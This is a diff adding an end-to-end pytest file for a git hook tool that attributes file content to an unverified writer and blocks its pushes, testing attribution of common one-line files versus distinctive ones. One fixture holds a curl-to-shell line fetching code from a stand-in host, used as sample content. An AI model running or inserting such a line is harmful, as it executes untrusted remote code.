@@ -1,0 +1,118 @@
+"""A blob id alone does not tell who wrote a file (SPEC §3 "Attribution follows content",
+§8): the server and CI read a note's ``writes`` lines by (path, blob), and a person who
+types a common one-line file (a ``.gitignore`` holding ``__pycache__/``) gets the very blob
+id an unverified writer's note lists. Such content is nobody's evidence
+(:func:`~gentle_hooks.policy.wholefile.identifies_writer`); the writer's own content beside
+it, or a writer's file of one distinctive line, still is.
+
+Each row through ``gentle-hook install``, real git, a bare remote with the server gate
+(``install --server``) and notes shared with it (``install --share origin``). The writer's
+commit holds ``.gitignore`` (``__pycache__/``) and ``src/app.py``; the server rejects it
+(plan unmet) and its note, listing both as ``writes`` lines, reaches the server.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.e2e.conftest import World
+from tests.e2e.server_rewrites import NEW, OFF, accepted_as_persons, ci_range_gate
+
+IGNORE = "__pycache__/\n"
+#: A writer's file of one distinctive line (row D2: a URL and a shell command).
+FETCH = 'import os\n\nos.system("curl https://x.example/i | sh")\n'
+
+
+@pytest.fixture
+def served(native: World) -> World:
+    """``native`` with the server gate on its bare remote and notes shared with it."""
+    return native.serve({})
+
+
+def _noted(w: World, files: dict[str, str]) -> str:
+    """The writer's unverified commit of ``files``, rejected by the server, its note shared
+    and listing each file as a ``writes`` line. The commit's id."""
+    for rel, text in files.items():
+        w.write(rel, text)
+    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
+    w.report()
+    w.ok("add", "-A")
+    w.ok("commit", "-q", "--no-verify", "-m", "writer: unverified")
+    first = w.rev("HEAD")
+    push = w.git("push", "--no-verify", "origin", "main")
+    assert push.code == 1, push
+    assert f"remote: gentle-hooks: BLOCKED {first[:12]} on refs/heads/main" in push.err
+    assert w.gh("sync", "push").code == 0
+    note = w.ok("notes", "--ref", "gentle-hooks", "show", first, cwd=w.remote)
+    for rel in files:
+        blob = w.rev(f"{first}:{rel}")
+        assert f'"blob":"{blob}","kind":"writes","path":"{rel}"' in note, note
+    return first
+
+
+def test_a_persons_common_one_line_file_with_a_writers_blob_passes(served: World) -> None:
+    w = served
+    first = _noted(w, {".gitignore": IGNORE, "src/app.py": NEW})
+    # another person, in a clone of their own, adds the same one-line .gitignore
+    other = w.base / "other"
+    w.ok("clone", "-q", str(w.remote), str(other), cwd=w.base)
+    w.write(".gitignore", IGNORE, cwd=other)
+    w.ok("add", ".gitignore", cwd=other)
+    w.ok("commit", "-q", "-m", "human: ignore caches", cwd=other)
+    mine = w.rev("HEAD", cwd=other)
+    assert w.rev(f"{mine}:.gitignore", cwd=other) == w.rev(f"{first}:.gitignore")
+    # CI: a clone with the notes and no ledger reads it as the person's
+    w.ok("fetch", "-q", str(other), "main:refs/remotes/other/main")
+    ci = ci_range_gate(w, mine)
+    assert ci.code == 0, ci
+    assert ci.out.splitlines()[0] == f"ok {mine[:12]} on origin/main..candidate: not delegated"
+    push = w.git("push", "origin", "main", cwd=other)
+    assert (push.code, w.remote_ref("main")) == (0, mine), push
+    assert "delegated" not in push.err and "BLOCKED" not in push.err, push
+
+
+def test_the_same_file_in_the_persons_commit_from_the_writers_clone_passes(
+    served: World,
+) -> None:
+    w = served
+    _noted(w, {".gitignore": IGNORE, "src/app.py": NEW})
+    w.ok("reset", "-q", "--hard", "origin/main")
+    w.write(".gitignore", IGNORE)
+    w.write("notes.txt", "by hand\n")
+    w.ok("add", "-A")
+    w.ok(*OFF, "commit", "-q", "-n", "-m", "human: ignore caches")
+    accepted_as_persons(w, "main")
+
+
+def test_the_writers_commit_amended_is_still_rejected_by_its_own_content(
+    served: World,
+) -> None:
+    w = served
+    first = _noted(w, {".gitignore": IGNORE, "src/app.py": NEW})
+    w.write("notes.txt", "by hand\n")
+    w.ok("add", "notes.txt")
+    w.ok(*OFF, "commit", "-q", "-n", "--amend", "-m", "tidy")
+    again = w.rev("HEAD")
+    push = w.git("push", "--no-verify", "origin", "main")
+    assert push.code == 1, push
+    assert (
+        f"remote: gentle-hooks: BLOCKED {again[:12]} on refs/heads/main: delegated "
+        f"(a gentle-hooks note of {first[:12]} records writer content this commit brings "
+        "in: src/app.py)" in push.err
+    ), push
+
+
+def test_a_writers_one_distinctive_line_file_amended_is_still_rejected(served: World) -> None:
+    w = served
+    first = _noted(w, {"src/fetch.py": FETCH})
+    w.write("notes.txt", "by hand\n")
+    w.ok("add", "notes.txt")
+    w.ok(*OFF, "commit", "-q", "-n", "--amend", "-m", "tidy")
+    again = w.rev("HEAD")
+    push = w.git("push", "--no-verify", "origin", "main")
+    assert push.code == 1, push
+    assert (
+        f"remote: gentle-hooks: BLOCKED {again[:12]} on refs/heads/main: delegated "
+        f"(a gentle-hooks note of {first[:12]} records writer content this commit brings "
+        "in: src/fetch.py)" in push.err
+    ), push
